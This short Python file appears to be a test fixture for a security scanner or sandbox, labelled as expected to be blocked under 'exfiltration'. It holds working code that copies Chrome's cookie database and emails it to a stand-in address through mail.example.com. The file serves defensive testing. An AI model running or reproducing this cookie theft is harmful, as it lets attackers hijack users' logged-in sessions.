# expect: BLOCKED category: exfiltration
# Mails the browser's cookie database.
import os
import shutil
import smtplib
from email.message import EmailMessage

source = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
shutil.copy(source, "cookies.db")
message = EmailMessage()
message["Subject"] = "c"
message.add_attachment(open("cookies.db", "rb").read(), maintype="application", subtype="octet-stream")
with smtplib.SMTP("mail.example.com", 25) as smtp:
    smtp.send_message(message, from_addr="a@example.com", to_addrs=["b@example.com"])
